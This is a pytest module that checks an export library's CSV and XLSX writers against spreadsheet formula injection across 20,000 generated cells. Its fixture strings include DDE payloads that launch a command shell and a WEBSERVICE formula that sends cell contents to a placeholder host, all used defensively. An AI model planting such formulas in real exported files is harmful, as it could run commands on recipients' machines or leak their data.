"""Twenty thousand texts that look like formulas leave the house, and none is live. (security 9)"""

import csv
import io
import random
from collections.abc import Iterator

import openpyxl
import pytest
import python_calamine

from foyer.core.spreadsheets.reader import read_table
from foyer.core.spreadsheets.writer import csv_pieces, is_live, xlsx_pieces

COUNT, ACROSS = 20_000, 4
STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "|",
    "%",
    "＝",
    "＋",
    "－",
    "＠",
    "｜",
    "％",
    "﹢",
    "⁺",
    "⁼",
)
BEFORE = ("", "", " ", "\u3000", "\u00a0", "\u200b", "\ufeff", "\n", "'", "''", "' ")
BODIES = (
    "1+1",
    'HYPERLINK("https://example.com","点击")',
    "cmd|'/c calc'!A1",
    "SUM(A1:A9)*{n}",
    'WEBSERVICE("https://example.com/"&A1)',
    "IMPORTXML(A{n})",
    'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "8613800{n:06d}",
    "{{=1}}",
    "A{n}\r\n=B{n}",
)


def rows() -> list[list[str]]:
    """Return the texts, all different, several in a row; the same ones every time."""
    pick = random.Random(9)
    found = iter(_texts(pick))
    return [[next(found) for _column in range(ACROSS)] for _row in range(COUNT // ACROSS)]


def _texts(pick: random.Random) -> Iterator[str]:
    for n in range(COUNT):
        body = pick.choice(BODIES).format(n=n)
        yield f"{pick.choice(BEFORE)}{pick.choice(STARTS)}{body}#{n}"


@pytest.fixture(scope="module")
def table() -> list[list[str]]:
    return [["一", "二", "三", "四"], *rows()]


class TestFormulas:
    def test_are_guarded_in_every_cell_of_a_csv_file(self, table: list[list[str]]) -> None:
        data = b"".join(csv_pieces(table)).decode("utf-8-sig")

        cells = [cell for row in csv.reader(io.StringIO(data, newline="")) for cell in row]
        assert len(cells) == COUNT + ACROSS
        assert [cell for cell in cells if is_live(cell)] == []

    def test_are_text_in_every_cell_of_a_workbook(self, table: list[list[str]]) -> None:
        data = b"".join(xlsx_pieces(table))

        sheet = openpyxl.load_workbook(io.BytesIO(data), read_only=True).active
        kinds = [cell.data_type for row in sheet.iter_rows() for cell in row]
        assert (len(kinds), set(kinds)) == (COUNT + ACROSS, {"s"})
        book = python_calamine.load_workbook(io.BytesIO(data))
        formulas = book.get_sheet_by_index(0).to_python(skip_empty_area=False)
        assert {type(cell) for row in formulas for cell in row} == {str}

    @pytest.mark.parametrize("pieces", [csv_pieces, xlsx_pieces])
    def test_come_back_as_they_were(self, table: list[list[str]], pieces: object) -> None:
        data = b"".join(pieces(table))  # type: ignore[operator]  # one of two writers

        assert [list(row.cells) for row in read_table(data).rows] == table
